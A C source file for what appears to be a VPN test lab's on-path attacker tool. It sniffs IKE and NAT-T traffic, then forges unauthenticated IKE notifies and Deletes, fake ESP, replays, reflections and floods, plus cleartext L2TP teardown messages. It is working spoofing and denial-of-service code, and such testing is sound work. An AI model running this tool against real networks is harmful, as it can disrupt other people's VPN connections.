/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The lab's attacker on the way: sees what passes a device, and forges packets of either side with what
 * it has seen there, addresses, ports, cookies and SPIs, but without any key. Raw sockets: for the
 * lab's namespaces only.
 *
 *	packet-forger watch DEVICE GATEWAY FIFO
 *		watches the tunnel with that gateway, on a device through which what it forges itself
 *		doesn't leave, and takes orders from the FIFO, a line each:
 *		send KIND COUNT   forged packets to the client
 *		flood KIND RATE   that many a second from a client's first message to its first ESP
 *		reflect           sends each of the client's IKE messages on port 4500 back to it at once
 *		stop              no flood any more, nor reflections
 *	packet-forger clear KIND GATEWAY CLIENT PORT TUNNEL SESSION COUNT
 *		L2TP outside of ESP, from the gateway's port 1701
 *
 * What it has done it prints, a line each.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "lib/builder.h"
#include "lib/cursor.h"
#include "lib/nsec.h"

#define PACKET_MAX 1500
#define L2TP_PORT  1701
#define HEARD_MAX  32

/* One UDP flow, as seen from the attacker's place. */
struct flow {
	struct in_addr gateway, client;
	uint16_t gateway_port, client_port;
};

struct seen {
	struct flow ike, natt; /* ports 0: not seen */
	uint8_t cky_i[8], cky_r[8];
	uint32_t spi_to_client;
	size_t n_heard; /* of the gateway's IKE messages on port 4500, all told; the last ones are kept */
	struct {
		size_t len;
		uint8_t data[PACKET_MAX];
	} heard[HEARD_MAX];
};

struct forger {
	int raw;
	struct seen seen;
	uint64_t random;
	const struct kind *flood;
	unsigned int flood_rate;
	bool flooding;
	nsec_t flood_next;
	unsigned long flooded;
	bool reflecting;
	unsigned long reflected;
	size_t replay_next;
};

_Noreturn static void die(const char *what)
{
	fprintf(stderr, "packet-forger: %s: %s\n", what, strerror(errno));
	exit(EXIT_FAILURE);
}

static nsec_t now(void)
{
	struct timespec ts;

	(void)clock_gettime(CLOCK_MONOTONIC, &ts);
	return (nsec_t)ts.tv_sec * NSEC_PER_SEC + (nsec_t)ts.tv_nsec;
}

static uint32_t random32(struct forger *f)
{
	f->random = f->random * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
	return (uint32_t)(f->random >> 32);
}

static void put_random(struct forger *f, struct builder *b, size_t n)
{
	while (n-- > 0)
		builder_u8(b, (uint8_t)random32(f));
}

/* RFC 791, RFC 768: the kernel fills in the IP checksum; UDP's may be left out. */
static bool send_udp(const struct forger *f, const struct flow *flow, const struct builder *data)
{
	uint8_t packet[PACKET_MAX];
	struct builder b = builder_init(packet, sizeof(packet));
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = flow->client };
	long len = builder_finish(data);

	if (len <= 0)
		return false;
	builder_u8(&b, 0x45);
	builder_u8(&b, 0);
	builder_u16(&b, (uint16_t)(28 + len));
	builder_u32(&b, 0);
	builder_u8(&b, 64);
	builder_u8(&b, IPPROTO_UDP);
	builder_u16(&b, 0);
	builder_bytes(&b, &flow->gateway, 4);
	builder_bytes(&b, &flow->client, 4);
	builder_u16(&b, flow->gateway_port);
	builder_u16(&b, flow->client_port);
	builder_u16(&b, (uint16_t)(8 + len));
	builder_u16(&b, 0);
	builder_bytes(&b, data->start, (size_t)len);
	long all = builder_finish(&b);
	if (all <= 0)
		return false;
	/* A full queue is waited for: what counts is how many came through. */
	while (sendto(f->raw, packet, (size_t)all, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		if (errno != ENOBUFS && errno != EAGAIN)
			return false;
	return true;
}

/* What is forged: writes the datagram for that flow. */
struct kind {
	const char *name;
	void (*write)(struct forger *f, const struct kind *k, struct builder *b);
	uint16_t value;
	bool on_500;
};

/* RFC 2408 3.1, with the marker of port 4500 (RFC 3947 4). */
static size_t begin_ike(struct forger *f, const struct kind *k, struct builder *b, uint8_t first,
			uint8_t exchange, uint8_t flags)
{
	if (!k->on_500)
		builder_u32(b, 0);
	size_t start = builder_len(b);
	builder_bytes(b, f->seen.cky_i, 8);
	builder_bytes(b, f->seen.cky_r, 8);
	builder_u8(b, first);
	builder_u8(b, 0x10);
	builder_u8(b, exchange);
	builder_u8(b, flags);
	builder_u32(b, random32(f) | 1);
	builder_u32(b, 0);
	return start;
}

static void end_ike(struct builder *b, size_t start)
{
	builder_patch32(b, start + 24, (uint32_t)(builder_len(b) - start));
}

/* A notify that nothing protects, VALUE its type. */
static void write_notify(struct forger *f, const struct kind *k, struct builder *b)
{
	size_t start = begin_ike(f, k, b, 11, 5, 0);

	builder_u32(b, 12);
	builder_u32(b, 1);
	builder_u8(b, 1);
	builder_u8(b, 0);
	builder_u16(b, k->value);
	end_ike(b, start);
}

/* The same about an SA of nobody's, by which can be told what the mere number of packets costs. */
static void write_notify_of_nobody(struct forger *f, const struct kind *k, struct builder *b)
{
	size_t start = builder_len(b);

	write_notify(f, k, b);
	for (size_t i = 0; i < 16; i += 4)
		builder_patch32(b, start + i, random32(f));
}

/* A Delete that nothing protects, of phase 1 (VALUE 1) or of the pair (3). */
static void write_delete(struct forger *f, const struct kind *k, struct builder *b)
{
	size_t start = begin_ike(f, k, b, 12, 5, 0);
	bool phase1 = k->value == 1;

	builder_u32(b, phase1 ? 28 : 16);
	builder_u32(b, 1);
	builder_u8(b, (uint8_t)k->value);
	builder_u8(b, phase1 ? 16 : 4);
	builder_u16(b, 1);
	if (phase1) {
		builder_bytes(b, f->seen.cky_i, 8);
		builder_bytes(b, f->seen.cky_r, 8);
	} else {
		builder_u32(b, f->seen.spi_to_client);
	}
	end_ike(b, start);
}

/* As an encrypted message looks, with cookies that are right: what it decrypts to has no HASH. */
static void write_encrypted(struct forger *f, const struct kind *k, struct builder *b)
{
	size_t start = begin_ike(f, k, b, 8, (uint8_t)k->value, 1);

	put_random(f, b, 64 + 16 * (random32(f) % 8));
	end_ike(b, start);
}

/* ESP of the pair that isn't: RFC 4303 2. */
static void write_esp(struct forger *f, const struct kind *k, struct builder *b)
{
	(void)k;
	builder_u32(b, f->seen.spi_to_client);
	builder_u32(b, random32(f) % 100000);
	put_random(f, b, 16 + 64 + 12);
}

/* What the gateway said, by turns. */
static void write_heard(struct forger *f, const struct kind *k, struct builder *b)
{
	size_t n = f->seen.n_heard < HEARD_MAX ? f->seen.n_heard : HEARD_MAX;

	(void)k;
	if (n == 0)
		return;
	size_t i = f->replay_next++ % n;
	builder_bytes(b, f->seen.heard[i].data, f->seen.heard[i].len);
}

static const struct kind kinds[] = {
	{ "replayed", write_heard, 0, false },
	{ "delete-sa", write_delete, 1, false },
	{ "delete-child", write_delete, 3, false },
	{ "no-proposal", write_notify, 14, false },
	{ "invalid-cookie", write_notify, 4, false },
	{ "authentication-failed", write_notify, 24, false },
	{ "initial-contact", write_notify, 24578, false },
	{ "wrong-hash-info", write_encrypted, 5, false },
	{ "wrong-hash-quick", write_encrypted, 32, false },
	{ "wrong-hash-main", write_encrypted, 2, false },
	{ "esp", write_esp, 0, false },
	{ "no-proposal-500", write_notify, 14, true },
	{ "invalid-cookie-500", write_notify, 4, true },
	{ "of-nobody-500", write_notify_of_nobody, 14, true },
};

static const struct kind *find_kind(const char *name)
{
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(kinds[i].name, name) == 0)
			return &kinds[i];
	return NULL;
}

static bool send_one(struct forger *f, const struct kind *k)
{
	const struct flow *flow = k->on_500 ? &f->seen.ike : &f->seen.natt;
	uint8_t data[PACKET_MAX];
	struct builder b = builder_init(data, 1024);

	if (flow->client_port == 0)
		return false;
	k->write(f, k, &b);
	return send_udp(f, flow, &b);
}

/* Watching. */

static void see_ike(struct forger *f, struct cursor c, bool to_client)
{
	static const uint8_t none[8];
	uint8_t cky_i[8], cky_r[8];

	cursor_copy(&c, cky_i, 8);
	cursor_copy(&c, cky_r, 8);
	if (c.bad)
		return;
	memcpy(f->seen.cky_i, cky_i, 8);
	memcpy(f->seen.cky_r, cky_r, 8);
	if (!to_client && memcmp(cky_r, none, 8) == 0 && f->flood && !f->flooding) {
		f->flooding = true;
		f->flood_next = now();
	}
}

static void keep(struct forger *f, struct cursor c)
{
	size_t i = f->seen.n_heard % HEARD_MAX, len = cursor_left(&c);

	if (len > sizeof(f->seen.heard[i].data))
		return;
	f->seen.n_heard++;
	f->seen.heard[i].len = len;
	cursor_copy(&c, f->seen.heard[i].data, len);
}

static void reflect(struct forger *f, struct cursor c)
{
	uint8_t data[PACKET_MAX];
	struct builder b = builder_init(data, sizeof(data));
	struct chunk all = cursor_rest(&c);

	builder_bytes(&b, all.data, all.len);
	f->reflected += send_udp(f, &f->seen.natt, &b);
}

static void see_natt(struct forger *f, struct cursor c, bool to_client)
{
	const struct cursor whole = c;
	uint32_t spi = cursor_u32(&c);

	if (c.bad || cursor_left(&c) == 0)
		return;
	if (spi == 0 && to_client)
		keep(f, whole);
	else if (spi == 0 && f->reflecting)
		reflect(f, whole);
	if (spi == 0)
		see_ike(f, c, to_client);
	else if (to_client)
		f->seen.spi_to_client = spi;
	if (spi != 0)
		f->flooding = false; /* the negotiation is over */
}

static void see(struct forger *f, const uint8_t *packet, size_t len, struct in_addr gateway)
{
	struct cursor c = cursor_init(packet, len);
	struct in_addr from, to;
	uint8_t version = cursor_u8(&c);

	(void)cursor_bytes(&c, 8);
	if (version != 0x45 || cursor_u8(&c) != IPPROTO_UDP)
		return;
	(void)cursor_u16(&c);
	cursor_copy(&c, &from, 4);
	cursor_copy(&c, &to, 4);
	uint16_t from_port = cursor_u16(&c), to_port = cursor_u16(&c);
	uint16_t udp_len = cursor_u16(&c);
	(void)cursor_u16(&c);
	/* Short frames are filled up. */
	c = cursor_sub(&c, udp_len >= 8 ? udp_len - 8u : 0);
	bool to_client = from.s_addr == gateway.s_addr;
	uint16_t port = to_client ? from_port : to_port;
	if (c.bad || (!to_client && to.s_addr != gateway.s_addr) || (port != 500 && port != 4500))
		return;
	struct flow flow = {
		.gateway = gateway,
		.client = to_client ? to : from,
		.gateway_port = port,
		.client_port = to_client ? to_port : from_port,
	};
	*(port == 500 ? &f->seen.ike : &f->seen.natt) = flow;
	if (port == 500)
		see_ike(f, c, to_client);
	else
		see_natt(f, c, to_client);
}

static int open_watch(const char *device)
{
	struct sockaddr_ll address = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_ALL), /* of one protocol, nothing that leaves is seen */
		.sll_ifindex = (int)if_nametoindex(device),
	};
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, htons(ETH_P_ALL));

	if (fd < 0 || address.sll_ifindex == 0 ||
	    bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
		die(device);
	return fd;
}

static void watch(struct forger *f, int fd, struct in_addr gateway)
{
	uint8_t packet[PACKET_MAX];
	ssize_t n;

	while ((n = recv(fd, packet, sizeof(packet), 0)) > 0)
		see(f, packet, (size_t)n, gateway);
}

static void order(struct forger *f, const char *line)
{
	char name[32] = "";
	unsigned int n = 0;
	unsigned long sent = 0;

	if (sscanf(line, "send %31s %u", name, &n) == 2 && find_kind(name)) {
		while (sent < n && send_one(f, find_kind(name)))
			sent++;
		printf("sent %lu of %u %s\n", sent, n, name);
	} else if (sscanf(line, "flood %31s %u", name, &n) == 2 && find_kind(name) && n > 0) {
		f->flood = find_kind(name);
		f->flood_rate = n;
		f->flooding = false;
		f->flooded = 0;
		printf("floods %s\n", name);
	} else if (strcmp(line, "reflect") == 0) {
		f->reflecting = true;
		f->reflected = 0;
		printf("reflects\n");
	} else if (strcmp(line, "stop") == 0) {
		printf("flooded %lu\n", f->flooded);
		if (f->reflecting)
			printf("reflected %lu\n", f->reflected);
		f->reflecting = false;
		f->flood = NULL;
		f->flooding = false;
	} else {
		printf("what: %s\n", line);
	}
}

static void read_orders(struct forger *f, int fd)
{
	char text[512];
	char *save;
	ssize_t n = read(fd, text, sizeof(text) - 1);

	if (n <= 0)
		return;
	text[n] = '\0';
	for (char *line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
		order(f, line);
}

static void flood(struct forger *f)
{
	nsec_t t = now();

	for (int i = 0; i < 64 && f->flooding && f->flood_next <= t; i++) {
		f->flood_next += NSEC_PER_SEC / f->flood_rate;
		if (send_one(f, f->flood))
			f->flooded++;
	}
	if (f->flooding && f->flood_next < t)
		f->flood_next = t;
}

_Noreturn static void run_watch(struct forger *f, const char *device, const char *gateway,
				const char *fifo)
{
	struct in_addr address;
	int packets = open_watch(device);

	if (inet_pton(AF_INET, gateway, &address) != 1)
		die(gateway);
	(void)unlink(fifo);
	if (mkfifo(fifo, 0600) < 0)
		die(fifo);
	int orders = open(fifo, O_RDWR | O_CLOEXEC | O_NONBLOCK);
	if (orders < 0)
		die(fifo);
	printf("ready\n");
	for (;;) {
		struct pollfd fds[] = { { packets, POLLIN, 0 }, { orders, POLLIN, 0 } };
		if (poll(fds, 2, f->flooding ? 1 : -1) < 0)
			die("poll");
		watch(f, packets, address);
		if (fds[1].revents)
			read_orders(f, orders);
		flood(f);
	}
}

/* L2TP in clear. */

static void write_control(struct builder *b, uint16_t tunnel, uint16_t session, uint16_t type,
			  uint16_t ns)
{
	builder_u16(b, 0xc802);
	builder_u16(b, 0);
	builder_u16(b, tunnel);
	builder_u16(b, session);
	builder_u16(b, ns);
	builder_u16(b, 0);
	builder_u16(b, 0x8008);
	builder_u32(b, 0);
	builder_u16(b, type);
	/* Assigned Tunnel ID or Assigned Session ID, and Result Code 1. */
	builder_u16(b, 0x8008);
	builder_u16(b, 0);
	builder_u16(b, type == 4 ? 9 : 14);
	builder_u16(b, type == 4 ? tunnel : session);
	builder_u16(b, 0x8008);
	builder_u16(b, 0);
	builder_u16(b, 1);
	builder_u16(b, 1);
	builder_patch16(b, 2, (uint16_t)builder_len(b));
}

/* LCP's Terminate-Request in a data message: RFC 2661 3.1, RFC 1661 5.5. */
static void write_terminate(struct builder *b, uint16_t tunnel, uint16_t session)
{
	builder_u16(b, 2);
	builder_u16(b, tunnel);
	builder_u16(b, session);
	builder_u32(b, 0xff03c021);
	builder_u32(b, 0x05770004);
	builder_zero(b, 64); /* the kernel leaves very short ones to user space */
}

static void run_clear(struct forger *f, char **argv)
{
	struct flow flow = { .gateway_port = L2TP_PORT, .client_port = (uint16_t)atoi(argv[3]) };
	uint16_t tunnel = (uint16_t)atoi(argv[4]), session = (uint16_t)atoi(argv[5]);
	unsigned long count = strtoul(argv[6], NULL, 10), sent = 0;
	uint8_t data[256];

	if (inet_pton(AF_INET, argv[1], &flow.gateway) != 1 ||
	    inet_pton(AF_INET, argv[2], &flow.client) != 1)
		die("address");
	for (; sent < count; sent++) {
		struct builder b = builder_init(data, sizeof(data));
		if (strcmp(argv[0], "stopccn") == 0)
			write_control(&b, tunnel, 0, 4, (uint16_t)sent);
		else if (strcmp(argv[0], "cdn") == 0)
			write_control(&b, tunnel, session, 14, (uint16_t)sent);
		else
			write_terminate(&b, tunnel, session);
		if (!send_udp(f, &flow, &b))
			die("send");
	}
	printf("sent %lu of %lu %s in clear\n", sent, count, argv[0]);
}

int main(int argc, char **argv)
{
	struct forger f = { .random = now() };

	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	f.raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (f.raw < 0)
		die("raw socket");
	if (argc == 5 && strcmp(argv[1], "watch") == 0)
		run_watch(&f, argv[2], argv[3], argv[4]);
	if (argc != 9 || strcmp(argv[1], "clear") != 0) {
		fprintf(stderr,
			"packet-forger watch DEVICE GATEWAY FIFO\n"
			"packet-forger clear stopccn|cdn|terminate GATEWAY CLIENT PORT TUNNEL "
			"SESSION COUNT\n");
		return 2;
	}
	run_clear(&f, argv + 2);
	return EXIT_SUCCESS;
}
